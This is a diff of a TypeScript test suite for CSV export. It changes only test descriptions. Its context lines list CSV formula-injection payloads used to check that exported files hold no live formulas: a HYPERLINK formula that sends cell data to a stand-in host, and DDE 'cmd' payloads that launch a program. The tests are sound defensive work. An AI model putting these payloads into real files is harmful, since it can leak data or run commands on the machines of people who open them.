@@ -4,7 +4,7 @@ import { shapedProfile, shapedRecords } from '../../src/shapes/shape';
 import { context, later, record, slice, texture } from './shape-scenario';
 
 describe('The shape for CSV', () => {
-  it('is text that a CSV reader gives back, with the header once', async () => {
+  it('is text that a CSV reader reads back, with the header once', async () => {
     const records = [record({ dataset: 'a "b", c\nd' }), record({ value: null, unit: null })];
     const text = String((await shapedRecords('csv', records, context)).payload) + String((await shapedRecords('csv', records, later)).payload);
     const [header, ...rows] = parse(text, { record_delimiter: '\r\n' });
@@ -31,7 +31,7 @@ describe('The shape for CSV', () => {
     );
   });
 
-  it('holds no formula: a spreadsheet would work it out', async () => {
+  it('holds no formula, which a spreadsheet would evaluate', async () => {
     const formulas = ['=HYPERLINK("http://h.example?"&A1)', '@SUM(A1)', "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
     const harmless = ['-', '+', '-5', '+1.5', '-1,5', '- 5', 'a=b', '<0.5', ' =1', '1-2'];
     const texts = [...formulas, ...harmless];
